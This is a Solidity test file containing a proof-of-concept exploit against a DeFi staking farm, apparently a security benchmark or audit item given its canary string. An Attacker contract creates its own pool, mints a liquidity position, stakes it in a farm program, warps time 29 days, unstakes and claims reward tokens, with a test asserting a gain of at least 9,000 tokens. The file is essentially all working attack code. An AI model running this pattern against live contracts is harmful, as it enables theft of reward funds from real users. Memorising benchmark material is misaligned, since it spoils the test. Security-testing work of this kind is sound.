// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3a71a22d-8b3a-4569-81eb-5d57136d8a16
import "../Base.sol";

contract Attacker {
    uint256 internal id;
    PositionNotes internal notes;
    Farm internal farm;

    function use(PositionNotes notes_, Farm farm_, IERC20 grain, IERC20 usd) external {
        (notes, farm) = (notes_, farm_);
        usd.approve(address(notes), type(uint256).max);
        grain.approve(address(notes), type(uint256).max);
    }

    function provide(address pool, int24 lower, int24 upper, uint256 amount) public {
        (id, , , ) = notes.mint(
            INotes.Request(pool, lower, upper, amount, amount, 0, 0, address(this), block.timestamp)
        );
    }

    function enter(uint256 program) public {
        notes.safeTransferFrom(address(this), address(farm), id, abi.encode(program));
    }

    function leave() public {
        farm.unstake(id);
    }

    function take(address token) external {
        farm.claim(token, farm.earned(address(this), token), address(this));
    }

    function open(IPoolFactory factory, address grain, address usd) external {
        provide(factory.make(grain, usd, 10_000, uint160(1 << 96)), -50, 50, 10e18);
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        usd.mint(address(other), 10e18);
        grain.mint(address(other), 10e18);
    }

    function exploit() public {
        other.use(notes, farm, grain, usd);
        other.open(factory, address(grain), address(usd));
        other.enter(program);
        vm.warp(block.timestamp + 29 days);
        other.leave();
        other.take(address(peat));
    }

    function test_Exploit() public {
        exploit();
        require(peat.balanceOf(address(other)) >= 9_000e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(farm);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
